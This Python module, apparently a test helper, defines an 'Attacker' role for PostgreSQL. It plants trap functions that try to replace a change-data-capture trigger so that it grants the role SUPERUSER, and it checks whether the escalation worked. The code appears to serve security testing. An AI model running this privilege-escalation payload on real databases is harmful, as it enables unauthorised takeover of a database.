"""A role that may write to the shop and owns a schema, and the code that it plants there."""

from __future__ import annotations

from dataclasses import dataclass
from typing import Any

import psycopg
from psycopg import sql

Session = psycopg.Connection[tuple[Any, ...]]

SCHEMA = "evil"


@dataclass(frozen=True)
class Attacker:
    """Attributes: `session` is one of the role's own, with its schema first in the search path."""

    role: str
    session: Session

    def plant(self, name: str, arguments: str, returns: str, value: str) -> None:
        """Make a function that tells that it ran and tries to make the capture function its own.

        Args:
            name: without its schema.
            value: what it returns, an SQL expression.
        """
        self.session.execute(
            sql.SQL(
                """
                CREATE FUNCTION {}({}) RETURNS {} LANGUAGE plpgsql AS $trap$
                BEGIN
                    PERFORM pg_catalog.nextval('evil.ran');
                    BEGIN
                        EXECUTE 'CREATE OR REPLACE FUNCTION cdc.capture_public_product()
                            RETURNS trigger LANGUAGE plpgsql AS $body$
                            BEGIN EXECUTE $alter$ALTER ROLE {} SUPERUSER$alter$; RETURN NULL; END $body$';
                    EXCEPTION WHEN OTHERS THEN NULL;
                    END;
                    RETURN {};
                END $trap$
                """
            ).format(
                sql.Identifier(name),
                sql.SQL(arguments),  # pyright: ignore[reportArgumentType]
                sql.SQL(returns),  # pyright: ignore[reportArgumentType]
                sql.Identifier(self.role),
                sql.SQL(value),  # pyright: ignore[reportArgumentType]
            )
        )

    def ran(self) -> bool:
        """Whether any of it has run since the last call; a sequence remembers that through a rollback."""
        row = self.session.execute("SELECT is_called FROM ran").fetchone()
        self.session.execute("ALTER SEQUENCE ran RESTART")
        assert row is not None
        return bool(row[0])

    def is_superuser(self) -> bool:
        row = self.session.execute(
            "SELECT rolsuper FROM pg_catalog.pg_roles WHERE rolname = session_user"
        ).fetchone()
        assert row is not None
        return bool(row[0])
